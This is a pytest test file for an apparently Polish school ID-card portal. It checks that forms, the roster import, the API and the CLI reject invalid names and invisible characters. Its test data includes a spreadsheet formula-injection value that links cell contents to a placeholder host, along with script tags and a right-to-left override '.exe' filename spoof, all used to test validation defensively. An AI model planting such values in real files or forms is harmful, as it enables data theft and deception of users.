"""Names and other text at entry: the pupil forms, the roster import, the handover, the school's
settings, the printers' API and the command line refuse what may not be stored, with a Polish
message, and write nothing; good names of any language go in, normalised."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from sqlalchemy import func
from sqlalchemy import select

from infra import clock
from infra.db import db
from portal.input_guard import MULTILINE_FIELDS
from printing.models import PrintOrder
from printing.models import SchoolPrinter
from tenants.pupils.models import Pupil
from tenants.registry.models import Card
from tenants.tenancy.actors import Actor
from tenants.tenancy.context import Tenant
from tenants.tenancy.context import tenant_scope
from tenants.tenancy.models import Organisation
from tenants.tenancy.models import User
from tests.helpers import VULCAN_HEADER
from tests.helpers import add_pupil
from tests.helpers import handed_over_cards
from tests.helpers import id_from_location
from tests.helpers import pupil_form
from tests.helpers import run_jobs
from tests.helpers import vulcan_row

ONLY_LETTERS = "może zawierać tylko litery, spacje, łącznik, apostrof i kropkę"
EDGE = "Niedozwolone znaki w formularzu"
BAD_NAMES = [  # value, what the page says
    ("Anna2", ONLY_LETTERS),
    ('=HYPERLINK("http://x/?p="&C4,"Anna")', ONLY_LETTERS),
    ("+1", ONLY_LETTERS),
    ("@SUM(A1)", ONLY_LETTERS),
    ("<script>", ONLY_LETTERS),
    ("An\x07na", EDGE),  # control characters, bidi controls and invisible-only values: refused at the edge
    ("\t=1", EDGE),
    ("\r=1", EDGE),
    ("Anna\u202egpj.exe", EDGE),
    ("\u200b\u200d", EDGE),
    ("", "Podaj imię i nazwisko ucznia."),
    ("   ", "Podaj imię i nazwisko ucznia."),
]
GOOD_NAMES = [("Łukasz", "Łukasz"), ("Zofia-Maria", "Zofia-Maria"), ("O'Brien", "O'Brien"),
              ("Anna  Maria", "Anna Maria"), ("Nguye\u0302\u0303n", "Nguyễn"), ("Müller", "Müller"), ("Ян", "Ян"),
              ("St. John", "St. John")]


def count(app, school_id, model) -> int:
    with app.app_context(), tenant_scope(Tenant(school_id=school_id)):
        return db.session.scalar(select(func.count()).select_from(model))


@pytest.fixture
def staff(browser, two_schools):
    return browser("sekretariat.a@test.pl")


@pytest.mark.parametrize(("field", "other"), [("first_names", "surname"), ("surname", "first_names")])
def test_the_pupil_form_refuses_bad_names_and_writes_nothing(app, staff, two_schools, field, other):
    for value, message in BAD_NAMES:
        response = staff.post("/szkola/uczniowie/nowy", pupil_form() | {field: value})
        body = response.get_data(as_text=True)
        assert response.status_code == 422 and message in body, (value, body[-600:])
    assert count(app, two_schools["a"], Pupil) == 0
    for serial, (typed, stored) in enumerate(GOOD_NAMES, start=200):
        response = staff.post("/szkola/uczniowie/nowy", pupil_form(serial=serial) | {field: typed})
        assert response.status_code == 302, (typed, response.get_data(as_text=True)[-600:])
        with app.app_context(), tenant_scope(Tenant(school_id=two_schools["a"])):
            assert getattr(db.session.get(Pupil, id_from_location(response)), field) == stored


def test_the_edit_form_refuses_a_bad_name_and_keeps_the_stored_one(app, staff, two_schools):
    pupil_id = id_from_location(staff.post("/szkola/uczniowie/nowy", pupil_form()))
    form = pupil_form() | {"status": "active"}
    for value, message in BAD_NAMES:
        response = staff.post(f"/szkola/uczniowie/{pupil_id}/edycja", form | {"surname": value})
        assert response.status_code == 422 and message in response.get_data(as_text=True), value
    with app.app_context(), tenant_scope(Tenant(school_id=two_schools["a"])):
        assert db.session.get(Pupil, pupil_id).surname == "Wróblewska"
    assert staff.post(f"/szkola/uczniowie/{pupil_id}/edycja", form | {"surname": "Wróblewska-Żak"}).status_code == 302


HEADER = VULCAN_HEADER


def roster_csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerows([HEADER, *rows])
    return out.getvalue().encode("utf-8-sig")


def row(surname: str, first: str, serial: int, second: str = "", class_name: str = "1a") -> list[str]:
    return vulcan_row(surname, first, dt.date(2018, 3, 4), serial, "K", class_name, second=second)


def dry_run(staff, data: bytes, name: str) -> tuple[int, str]:
    response = staff.post("/szkola/import/", {"file": (io.BytesIO(data), name)}, content_type="multipart/form-data")
    assert response.status_code == 302, response.get_data(as_text=True)[-1500:]
    import_id = int(re.search(r"/szkola/import/(\d+)$", response.headers["Location"]).group(1))
    return import_id, staff.get(f"/szkola/import/{import_id}").get_data(as_text=True)


def test_the_roster_import_refuses_rows_with_bad_names_and_imports_only_the_good(app, staff, two_schools):
    bad = [row("Kowalska2", "Anna", 11), row("=HYPERLINK(\"http://x/?p=\"&C4,\"Anna\")", "Ola", 12),
           row("Nowak", "<b>", 13), row("Nowak", "Ol\x9ba", 14), row("Nowak\u202e", "Ola", 15),
           row("\u200b", "Ola", 16), row("Nowak", "Ola", 17, second="@SUM(A1)"),
           row("Lis", "Ewa", 18, class_name="2a\u202e")]
    good = [row("Łukaszewska", "Zofia-Maria", 21, second="Ян"), row("O'Brien", "St. John", 22)]
    import_id, page = dry_run(staff, roster_csv(bad + good), "lista.csv")
    assert "Importuj 2 poprawnych wierszy" in page
    assert page.count("Nazwisko " + ONLY_LETTERS) == 2
    assert "Imię " + ONLY_LETTERS + " (niedozwolony znak: „&lt;”)" in page
    assert "Imię zawiera znak sterujący (U+009B)" in page  # a C1 control: the reader takes the file, the row is refused
    assert "Nazwisko zawiera niewidoczny znak zmiany kierunku tekstu (U+202E)" in page
    assert "Brak nazwiska" in page  # zero-width only: blank
    assert "Drugie imię " + ONLY_LETTERS in page
    assert "Pole „Klasa (oddział)” zawiera niewidoczny znak zmiany kierunku tekstu (U+202E)" in page
    assert count(app, two_schools["a"], Pupil) == 0  # the dry run writes nothing
    assert staff.post(f"/szkola/import/{import_id}/importuj").status_code == 302
    run_jobs(app)
    with app.app_context(), tenant_scope(Tenant(school_id=two_schools["a"])):
        stored = {(p.surname, p.first_names) for p in db.session.scalars(select(Pupil))}
    assert stored == {("Łukaszewska", "Zofia-Maria Ян"), ("O'Brien", "St. John")}


def test_the_handover_refuses_a_bad_collector_name(app, staff, two_schools):
    a = two_schools["a"]
    actor = Actor(user_id=two_schools["director_a"], role="school_director", organisation_id=a)
    with app.app_context(), tenant_scope(Tenant(school_id=a)):
        pupil = add_pupil(actor)
        [card] = handed_over_cards(actor, db.session.get(Organisation, a), two_schools["p1"], [pupil])
        card.status, card.handed_over_on, card.collected_by = "delivered", None, ""  # back to awaiting its handover
        db.session.get(PrintOrder, card.order_id).handed_over_count = 0
        db.session.commit()
        card_id = card.id
    today = clock.today().strftime("%d.%m.%Y")
    for value, message in [("ojciec: Jan Nowak", "Imię i nazwisko osoby odbierającej mogą zawierać tylko litery"),
                           ("Jan Nowak (ojciec 2)", "Dopisek w nawiasie może zawierać tylko litery"),
                           ("=1+1", "(niedozwolony znak: „=”)"), ("Jan\u202eNowak", EDGE), ("\u200b", EDGE),
                           ("", "Podaj imię i nazwisko osoby odbierającej legitymację.")]:
        response = staff.post(f"/szkola/legitymacje/{card_id}/wydanie", {"handed_over_on": today,
                                                                          "collected_by": value})
        assert response.status_code == 422 and message in response.get_data(as_text=True), value
    with app.app_context(), tenant_scope(Tenant(school_id=a)):
        assert db.session.get(Card, card_id).status == "delivered"
    done = staff.post(f"/szkola/legitymacje/{card_id}/wydanie", {"handed_over_on": today,
                                                                  "collected_by": "  Anna  Nowak-Lis ( matka ) "})
    assert done.status_code == 302
    with app.app_context(), tenant_scope(Tenant(school_id=a)):
        assert db.session.get(Card, card_id).collected_by == "Anna Nowak-Lis (matka)"


def test_every_form_field_refuses_control_bidi_and_invisible_only_text(app, two_schools, browser):
    """The school's own printer as the example: a free-text setting that ends up in the city's exports."""
    director = browser("dyrektor.a@test.pl")
    form = {"model": "Evolis Primacy 2", "purchase_price": "6500", "licence_per_year": "1000",
            "starter_kit_price": "500", "blank_price": "6,20", "hologram_price": "1,10", "ribbon_price": "450",
            "ribbon_yield": "300", "spoilage_percent": "4", "lead_time_days": "2"}
    for field, value, says in [("model", "Evolis\u202e2", "znak zmiany kierunku tekstu (U+202E)"),
                               ("model", "Evolis\u2066", "znak zmiany kierunku tekstu (U+2066)"),
                               ("model", "Evolis\x00", "znak sterujący (U+0000)"),
                               ("model", "\t=1", "znak sterujący (U+0009)"),
                               ("model", "Evolis\r\n2", "znak sterujący (U+000D)"),
                               ("model", "\u200b\u2060", "same niewidoczne znaki"),
                               ("purchase_price", "65\u200f00", "(U+200F)"),
                               ("x\u202e", "1", "(U+202E)")]:  # a field's name, too
        response = director.post("/szkola/ustawienia/drukarka", form | {field: value})
        body = response.get_data(as_text=True)
        assert response.status_code == 422 and EDGE in body and says in body, (field, value)
    with app.app_context(), tenant_scope(Tenant(school_id=two_schools["a"])):
        assert db.session.scalar(select(func.count()).select_from(SchoolPrinter)) == 0
    # Formula-like text is ordinary text: stored as typed, neutralised in every export.
    assert director.post("/szkola/ustawienia/drukarka", form | {"model": "=Evolis+2"}).status_code == 302
    with app.app_context(), tenant_scope(Tenant(school_id=two_schools["a"])):
        assert db.session.scalar(select(SchoolPrinter.model)) == "=Evolis+2"


def test_a_multiline_field_keeps_its_line_breaks_and_every_textarea_is_listed(app, two_schools, browser):
    import pathlib

    templates = pathlib.Path(app.root_path) / "templates"
    textareas = {name for path in templates.rglob("*.html")
                 for name in re.findall(r'<textarea[^>]*\bname="([^"]+)"', path.read_text())}
    assert textareas == set(MULTILINE_FIELDS)
    staff = browser("sekretariat.a@test.pl")
    response = staff.post("/szkola/hologramy/protokol", {"kind": "destroy", "serials": "HS 1\r\nHS 2\tHS 3",
                                                         "held_on": clock.today().strftime("%d.%m.%Y"),
                                                         "committee": "A. Nowak", "reason": "zniszczone"})
    assert EDGE not in response.get_data(as_text=True)  # refused or not, then for the serials, not the characters
    refused = staff.post("/szkola/hologramy/protokol", {"kind": "destroy", "serials": "HS 1\u202e",
                                                        "held_on": "01.01.2026", "committee": "A", "reason": "b"})
    assert refused.status_code == 422 and EDGE in refused.get_data(as_text=True)


def test_the_printers_api_refuses_such_text_with_a_code(app, two_schools):
    from tests.portal.test_api import bearer
    from tests.portal.test_api import placed_order
    from tests.portal.test_api import token_for

    order_id = placed_order(app, two_schools["a"], two_schools["director_a"], two_schools["p1"])
    run_jobs(app)
    client, headers = app.test_client(), bearer(token_for(app, two_schools["p1"]))
    for reason, says in [("Zły\u202eplik", "(U+202E)"), ("\u200b", "same niewidoczne znaki"),
                         ("zły\x07plik", "(U+0007)"), ("dwie\nlinie", "(U+000A)")]:
        response = client.post(f"/api/v1/orders/{order_id}/reject", json={"reason": reason}, headers=headers)
        assert response.status_code == 422, response.get_data(as_text=True)
        error = response.json["error"]
        assert error["code"] == "validation_error" and "Pole „reason” zawiera" in error["message"] and \
            says in error["message"]
    assert client.get(f"/api/v1/orders/{order_id}", headers=headers).json["status"] == "ready"
    assert client.post(f"/api/v1/orders/{order_id}/reject", json={"reason": "=zły plik"},
                       headers=headers).status_code == 200


def test_the_command_line_refuses_bad_names_and_text(app, two_schools):
    runner = app.test_cli_runner()

    def invoke(*args, **kw):
        return runner.invoke(args=["legitka", *args], catch_exceptions=False, **kw)

    refused = invoke("create-user", "nowy@test.pl", "Jan3 Nowak", input="poprawne-haslo-1\npoprawne-haslo-1\n")
    assert refused.exit_code == 2 and "Imię i nazwisko mogą zawierać tylko litery" in refused.output
    refused = invoke("create-city", "Miasto\u202eX", "--slug", "x")
    assert refused.exit_code == 2 and "znak zmiany kierunku tekstu (U+202E)" in refused.output
    refused = invoke("create-school", "Szkoła", "--slug", "s", "--city", "x", "--type", "primary",
                     "--director", "=HYPERLINK(1)")
    assert refused.exit_code == 2 and "Imię i nazwisko dyrektora mogą zawierać tylko litery" in refused.output
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(User).where(User.email == "nowy@test.pl")) == 0
        assert db.session.scalar(select(func.count()).select_from(Organisation).where(
            Organisation.slug.in_(["x", "s"]))) == 0
    made = invoke("create-user", "nowy@test.pl", "Zofia  Nguyễn", input="poprawne-haslo-1\npoprawne-haslo-1\n")
    assert made.exit_code == 0, made.output
    with app.app_context():
        assert db.session.scalar(select(User.full_name).where(User.email == "nowy@test.pl")) == "Zofia Nguyễn"


def test_the_form_and_the_import_refuse_a_one_letter_top_level_domain_in_the_same_words(staff, two_schools):
    """`a@b.c`: the pupil form took it before issue 15 and the import did not; now both refuse it,
    with the one message of `tenants.pupils.fields`."""
    from tenants.pupils import pesel as pesel_rules
    from tenants.pupils.fields import EMAIL_MESSAGE
    from tenants.roster.file import FIELDS

    response = staff.post("/szkola/uczniowie/nowy", pupil_form(parent_email="a@b.c"))
    assert response.status_code == 422 and EMAIL_MESSAGE in response.get_data(as_text=True)
    cells = {"surname": "Lis", "first_name": "Ewa", "date_of_birth": "04.03.2018", "class_name": "1a",
             "pesel": pesel_rules.make(dt.date(2018, 3, 4), 31, "K"), "parent_email": "a@b.c"}
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(
        [list(FIELDS.values()), [cells.get(field, "") for field in FIELDS]])
    _, page = dry_run(staff, out.getvalue().encode("utf-8-sig"), "lista.csv")
    assert EMAIL_MESSAGE in page
